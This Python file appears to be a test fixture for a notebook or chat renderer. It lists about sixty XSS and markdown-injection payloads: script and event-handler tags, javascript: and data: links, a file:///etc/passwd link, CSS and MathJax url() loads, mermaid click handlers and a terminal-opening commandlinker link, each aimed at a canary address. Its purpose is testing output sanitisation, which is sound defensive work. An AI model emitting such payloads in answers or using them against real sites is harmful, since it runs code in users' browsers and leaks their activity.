"""Answers that try to run, to fetch or to lead away. CANARY is where nobody may ask."""

# ruff: noqa: E501

from __future__ import annotations

_RUN = "window.top.__pwned=1"
_FENCE = "```"

#: name -> what a model could answer. Each asks the canary for a path of its own name.
PAYLOADS: dict[str, str] = {
    "script": f"Hello <script>{_RUN};fetch('CANARY/script')</script> there",
    "script-block": f"\n\n<script src=CANARY/script-block></script>\n<script>\n{_RUN}\n</script>\n",
    "img-onerror": f"a <img src=x onerror={_RUN}> b\n\n<img src=CANARY/img-onerror>",
    "svg-onload": f"<svg onload={_RUN}><image href=CANARY/svg-onload /></svg>",
    "svg-slash": f"<svg/onload={_RUN}//",
    "iframe-srcdoc": f"<iframe srcdoc=\"<script>{_RUN}</script>\" src=CANARY/iframe></iframe>",
    "object-embed": "<object data=CANARY/object></object><embed src=CANARY/embed>",
    "video": f"<video poster=CANARY/video src=CANARY/video onloadstart={_RUN}></video>",
    "details": f"<details open ontoggle={_RUN}><summary>more</summary>x</details>",
    "a-javascript": f'<a href="javascript:{_RUN}">click here</a> <a href=javascript:{_RUN}>x</a>',
    "link-javascript": f"[click](javascript:{_RUN}) [x](JaVaScRiPt:{_RUN} 'y')",
    "link-entities": f"[a](&#106;avascript:{_RUN}) [b](java&Tab;script:{_RUN}) [c](\x01javascript:x)",
    "link-newline": f"[a](\njavascript:{_RUN})\n[b](<java\nscript:{_RUN}>)",
    "link-data": f"[a](data:text/html,<script>{_RUN}</script>) [b](vbscript:x) [c](file:///etc/passwd)",
    "link-local": "[a](/logout) [b](x.ipynb) ![c](/logout) ![d](files/x.png) [e](../../lab?reset)",
    "entities": f"&lt;img src=x onerror={_RUN}&gt; &#60;script&#62;{_RUN}&#60;/script&#62;",
    "autolink": f"<https://canary.example/x> <javascript:{_RUN}> CANARY/bare www.canary.example",
    "image": "Look: ![a picture](CANARY/image.png) and ![](<CANARY/image2.png> \"t\")",
    "image-reference": "![a][pic] and ![pic] and ![pic][]\n\n[pic]: CANARY/reference.png 'title'\n",
    "image-nested": "[![a](CANARY/nested.png)](CANARY/x) ![a ![b](CANARY/n2)](CANARY/n3) !![c](CANARY/n4)",
    "image-escapes": "\\\\![a](CANARY/esc) !\\[b](CANARY/e2) ![c\\](CANARY/e3) ![d`](CANARY/e4)` ![e\n](CANARY/e5)",
    "definition-link": f"[a][x] and [x]\n\n[x]: javascript:{_RUN}\n[y]:\n  CANARY/definition\n![][y]",
    "style": "<style>@import 'CANARY/style.css'; body{background:url(CANARY/style)}</style>",
    "css-url": "<div style=\"background:url(CANARY/css)\">x</div><p style='background-image:url(CANARY/css2)'>",
    "link-rel": "<link rel=stylesheet href=CANARY/rel><link rel=prefetch href=CANARY/prefetch>",
    "base-meta": "<base href=CANARY/base/><meta http-equiv=refresh content='0;url=CANARY/meta'>",
    "form": f"<form action=CANARY/form><button formaction=javascript:{_RUN}>Run</button><input autofocus onfocus={_RUN}>",
    "commandlinker": "<a data-commandlinker-command='terminal:create-new' data-commandlinker-args='{}'>x</a>",
    "math-href": f"$\\href{{javascript:{_RUN}}}{{x}}$ and $$\\href{{CANARY/math}}{{y}}$$ $\\url{{CANARY/u}}$",
    "math-style": "$\\style{background:url(CANARY/mstyle)}{x} \\class{jp-Dialog}{y} \\cssId{main}{z}$",
    "math-bbox": "$\\bbox[background:url(CANARY/bbox)]{x} \\bbox[5px, border:2px solid red]{y}$",
    "math-bbox-fixed": "$$\\bbox[position:fixed;top:0;left:0;width:100vw;height:100vh;background:red]{x}$$",
    "math-unicode-css": "$\\unicode[.5,.5,x;background:url(CANARY/unicode2)]{65}$ $\\unicode[x;position:fixed]{66}$",
    "math-entity": (
        "&#36;&#92;unicode[.5,.5,x;background:url(CANARY/entity1)]{65}&#36; and "
        "$&#92;unicode[.5,.5,x;background:url(CANARY/entity2)]{65}$ and "
        "&dollar;&bsol;&#x75;nicode[.5,.5,x;background:url(CANARY/entity3)]{65}&dollar;"
    ),
    "math-unicode": "$\\unicode[.5,.5,'x;background:url(CANARY/unicode)']{65} \\unicode{x3C}img\\unicode{62}$",
    "math-require": f"$\\require{{html}}\\href{{javascript:{_RUN}}}{{x}} \\require{{action}}$",
    "math-let": f"$\\let\\h\\href \\h{{javascript:{_RUN}}}{{x}} \\def\\g{{\\href}} \\g{{javascript:x}}{{y}}$",
    "math-def": f"$\\newcommand{{\\x}}[1]{{\\href{{javascript:{_RUN}}}{{#1}}}} \\x{{y}}$\n\n$\\x{{z}}$",
    "math-token": "$\\mmlToken{mi}[href='javascript:x' style='background:url(CANARY/token)']{x}$",
    "math-data": "$\\data{src=CANARY/data}{x} \\includegraphics{CANARY/graphics} \\color{url(CANARY/c)}{x}$",
    "math-html": f"$<img src=x onerror={_RUN}>$ $$\\text{{<img src=CANARY/text onerror={_RUN}>}}$$ \\\\(<svg onload={_RUN}>\\\\)",
    "math-quote": f"https://a.example/$\"onmouseover={_RUN} x=\"$ [a](https://a.example/$\"onclick={_RUN}\"$)",
    "math-fence": f"$\n{_FENCE}\n$ <img src=x onerror={_RUN}>\n{_FENCE}\n<img src=CANARY/mathfence>\n",
    "math-forged": f"@@0@@ $x$ @@1@@ <img src=x onerror={_RUN}> $y$",
    "mermaid-click": f"{_FENCE}mermaid\ngraph TD\nA-->B\nclick A href \"javascript:{_RUN}\"\nclick B call {_RUN}()\n{_FENCE}\n",
    "mermaid-html": f"{_FENCE}mermaid\ngraph TD\nA[\"<img src=x onerror={_RUN}><img src='CANARY/mermaid'>\"]\n{_FENCE}\n",
    "mermaid-init": f"{_FENCE}mermaid\n%%{{init: {{'securityLevel': 'loose', 'themeCSS': '@import url(CANARY/theme)'}}}}%%\ngraph TD\nA-->B\n{_FENCE}\n",
    "mermaid-img": "~~~ mermaid\nflowchart LR\nA@{ img: \"CANARY/mermaidimg\", label: \"x\" }\n~~~\n",
    "fence-open": f"{_FENCE}html\n<script>{_RUN}</script>\n<img src=CANARY/open onerror={_RUN}>",
    "fence-nested": f"````md\n{_FENCE}html\n<img src=x onerror={_RUN}>\n{_FENCE}\n````\n<img src=CANARY/after>\n````",
    "fence-info": f"{_FENCE}py\"><img src=x onerror={_RUN}>\nx = 1\n{_FENCE}\n~~~ \" onmouseover={_RUN}\ny\n~~~",
    "fence-list": f"- a\n  {_FENCE}\n  code\n- <img src=x onerror={_RUN}>\n  {_FENCE}\n  <img src=CANARY/list>\n",
    "fence-quote": f"> {_FENCE}\n> code\nlazy <img src=x onerror={_RUN}>\n> {_FENCE}\n<img src=CANARY/quote>\n",
    "span-odd": f"`` a ` <img src=x onerror={_RUN}> ``` b `c` `<img src=CANARY/span onerror={_RUN}>\n\n`",
    "table": f"| a | b |\n|---|---|\n| <img src=x onerror={_RUN}> | `|` <img src=CANARY/table> |\n| ![x](CANARY/cell) | <b>x |\n",
    "blocks": f"# <img src=x onerror={_RUN}>\n> <img src=CANARY/bq>\n\n1. <script>{_RUN}</script>\n   * <svg onload={_RUN}>\n",
    "heading-id": "# main <a name=jupyterapp id=jupyterapp>\n\n## jp-main-dock-panel\n",
    "comment": f"<!-- a --!><img src=x onerror={_RUN}> --> <!--><img src=CANARY/comment>--> <![CDATA[<script>{_RUN}</script>]]>",
    "half-tags": f"<img src=x onerror={_RUN} \n\n<<script>{_RUN}//<</script>\n<p\nonclick={_RUN}\n>x",
    "attributes": f"# a {{#x onclick={_RUN}}}\n\n[a](https://a.example){{onclick={_RUN}}} ![](CANARY/attr){{width=1}}",
    "template": f"<template><img src=x onerror={_RUN}></template><math><mtext><img src=x onerror={_RUN}></mtext></math>",
    "noscript": f"<noscript><p title=\"</noscript><img src=CANARY/noscript onerror={_RUN}>\"></noscript>",
    "separators": f"a\u2028<img src=x onerror={_RUN}>\u0085![x](CANARY/sep)\x00<\x00script>{_RUN}</script>",
    "footnote": f"a[^1]\n\n[^1]: <img src=x onerror={_RUN}> ![x](CANARY/foot)\n",
}  # fmt: skip


def aimed(canary: str) -> dict[str, str]:
    """The payloads with the canary's address in them."""
    return {name: text.replace("CANARY", canary) for name, text in PAYLOADS.items()}
